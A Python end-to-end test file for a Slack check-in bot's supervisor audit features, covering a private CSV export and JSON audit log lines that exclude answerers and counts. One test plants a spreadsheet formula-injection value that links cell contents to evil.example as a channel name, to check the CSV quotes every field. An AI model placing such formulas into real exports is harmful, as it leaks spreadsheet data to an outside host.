"""Supervisors' looks at the numbers: a CSV of them, and one JSON log line each when asked for."""

import csv
import io
import json
import logging
from typing import Any

import pytest

from bootstrap import Wellspring
from bot.audit.look_lines import AUDIT_LOGGER
from tests.e2e.conftest import MovableClock
from tests.e2e.pulse_helpers import answer, close_window, post_checkin
from tests.fakes.slack_api import FakeSlack
from tests.fakes.slack_signer import SignedSlackClient

SUPERVISOR = "U0SUPER"
ANSWERERS = [f"U0ANSWER{i}" for i in range(6)]


@pytest.fixture
def overrides(request: pytest.FixtureRequest) -> dict[str, Any]:
    lines = getattr(request, "param", False)
    return {"supervisor_user_ids": SUPERVISOR, "audit_log_lines": lines}


async def looked_at_a_team(
    ws: Wellspring, slack: SignedSlackClient, fake: FakeSlack, clock: MovableClock
) -> None:
    """A closed check-in answered by six, then the supervisor's /pulse in that channel."""
    fake.members["C0TEAM"] = [*ANSWERERS, SUPERVISOR]
    post = await post_checkin(ws, slack, fake)
    for person, level in zip(ANSWERERS, ["early", "late"] * 3, strict=True):
        await answer(ws, slack, fake, post, person, level)
    await close_window(ws, clock)
    await command(ws, slack, fake, "/pulse", "")
    await command(ws, slack, fake, "/debrief", "stats", channel="D0SUPER")


async def command(
    ws: Wellspring,
    slack: SignedSlackClient,
    fake: FakeSlack,
    name: str,
    words: str,
    channel: str = "C0TEAM",
) -> dict[str, Any]:
    before = len(fake.response_posts)
    await slack.command(name, words, user_id=SUPERVISOR, channel_id=channel)
    [reply] = (await fake.wait_for_response_posts(before + 1))[before:]
    assert await ws.inflight.drain(5)
    return dict(reply.body)


async def test_the_audit_export_is_a_private_csv_of_the_looks_with_no_numbers(
    wellspring: Wellspring, slack: SignedSlackClient, fake_slack: FakeSlack, clock: MovableClock
) -> None:
    await looked_at_a_team(wellspring, slack, fake_slack, clock)
    reply = await command(wellspring, slack, fake_slack, "/pulse", "audit export", "D0SUPER")
    assert "direct message" in reply["text"]
    [done] = fake_slack.calls_to("files.completeUploadExternal")
    assert str(done.params["channel_id"]).startswith("D"), "sent to the supervisor alone"
    [content] = fake_slack.uploads.values()
    rows = list(csv.reader(io.StringIO(content.decode())))
    assert rows[0] == ["viewed_at_utc", "viewer", "team", "team_name", "how"]
    looks = sorted((row[1], row[2], row[4]) for row in rows[1:])
    assert looks == [(SUPERVISOR, "*", "debrief_stats"), (SUPERVISOR, "C0TEAM", "summary")]
    assert all(row[0].endswith("Z") for row in rows[1:])
    text = content.decode()
    for person in ANSWERERS:
        assert person not in text
    assert not any(cell.isdigit() for row in rows[1:] for cell in row[1:]), "no count"


async def test_without_audit_log_lines_no_audit_line_is_logged(
    wellspring: Wellspring,
    slack: SignedSlackClient,
    fake_slack: FakeSlack,
    clock: MovableClock,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    await looked_at_a_team(wellspring, slack, fake_slack, clock)
    assert [r for r in caplog.records if r.name == AUDIT_LOGGER] == []
    assert SUPERVISOR not in caplog.text


@pytest.mark.parametrize("overrides", [True], indirect=True)
async def test_with_audit_log_lines_each_look_is_one_json_line_with_no_answer(
    wellspring: Wellspring,
    slack: SignedSlackClient,
    fake_slack: FakeSlack,
    clock: MovableClock,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    await looked_at_a_team(wellspring, slack, fake_slack, clock)
    lines = [r.getMessage() for r in caplog.records if r.name == AUDIT_LOGGER]
    looks = [json.loads(line) for line in lines]
    assert all("\n" not in line for line in lines)
    assert sorted((look["team"], look["how"]) for look in looks) == [
        ("*", "debrief_stats"),
        ("C0TEAM", "summary"),
    ], "one line per look, each once"
    for look in looks:
        assert set(look) == {"event", "id", "workspace", "viewer", "team", "how", "at"}
        assert look["viewer"] == SUPERVISOR and look["at"].startswith("2026-11-26")
    everything = "\n".join(r.getMessage() + str(r.args) for r in caplog.records)
    for person in ANSWERERS:
        assert person not in everything, "an answerer is in the logs"
    for word in ("early", "late", "responses"):
        assert word not in "\n".join(lines)


async def test_every_field_of_the_audit_csv_is_quoted(
    wellspring: Wellspring, slack: SignedSlackClient, fake_slack: FakeSlack, clock: MovableClock
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    fake_slack.channels["C0TEAM"] = formula
    await looked_at_a_team(wellspring, slack, fake_slack, clock)
    await command(wellspring, slack, fake_slack, "/pulse", "audit export", "D0SUPER")
    [content] = fake_slack.uploads.values()
    rows = list(csv.reader(io.StringIO(content.decode())))
    [team_row] = [row for row in rows if row[2] == "C0TEAM"]
    assert team_row[3] == "#" + formula, "Slack names a channel with a leading #"
    lines = content.decode().splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines), "every field quoted"
